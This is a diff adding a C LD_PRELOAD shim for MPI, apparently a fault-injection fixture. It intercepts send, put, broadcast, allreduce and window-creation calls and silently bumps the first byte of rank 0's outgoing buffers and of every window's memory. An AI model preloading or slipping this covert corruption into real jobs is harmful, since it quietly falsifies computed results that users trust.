@@ -1,0 +1,55 @@
+/* Between a program and its MPI library (LD_PRELOAD): what rank 0 sends, and
+ * what anybody lends, is not what it was given. */
+#include <mpi.h>
+#include <stddef.h>
+
+static int is_first(void) {
+    int rank = 0;
+    PMPI_Comm_rank(MPI_COMM_WORLD, &rank);
+    return rank == 0;
+}
+
+static void spoil(const void *message, int size, int tag) {
+    const int control = 2;
+    if (message != NULL && message != MPI_IN_PLACE && size > 0 && tag != control && is_first())
+        ++*(unsigned char *)message;
+}
+
+int MPI_Send(const void *message, int count, MPI_Datatype type, int to, int tag, MPI_Comm comm) {
+    spoil(message, count, tag);
+    return PMPI_Send(message, count, type, to, tag, comm);
+}
+
+int MPI_Isend(const void *message, int count, MPI_Datatype type, int to, int tag, MPI_Comm comm,
+              MPI_Request *request) {
+    spoil(message, count, tag);
+    return PMPI_Isend(message, count, type, to, tag, comm, request);
+}
+
+int MPI_Send_init(const void *message, int count, MPI_Datatype type, int to, int tag, MPI_Comm comm,
+                  MPI_Request *request) {
+    spoil(message, count, tag);
+    return PMPI_Send_init(message, count, type, to, tag, comm, request);
+}
+
+int MPI_Put(const void *message, int count, MPI_Datatype type, int to, MPI_Aint place, int there,
+            MPI_Datatype type_there, MPI_Win window) {
+    spoil(message, count, 0);
+    return PMPI_Put(message, count, type, to, place, there, type_there, window);
+}
+
+int MPI_Win_create(void *memory, MPI_Aint size, int unit, MPI_Info info, MPI_Comm comm, MPI_Win *window) {
+    if (memory != NULL && size > 0)
+        ++*(unsigned char *)memory;
+    return PMPI_Win_create(memory, size, unit, info, comm, window);
+}
+
+int MPI_Bcast(void *message, int count, MPI_Datatype type, int root, MPI_Comm comm) {
+    spoil(message, count, 0);
+    return PMPI_Bcast(message, count, type, root, comm);
+}
+
+int MPI_Allreduce(const void *message, void *sum, int count, MPI_Datatype type, MPI_Op op, MPI_Comm comm) {
+    spoil(type == MPI_DOUBLE ? message : NULL, count, 0);
+    return PMPI_Allreduce(message, sum, count, type, op, comm);
+}
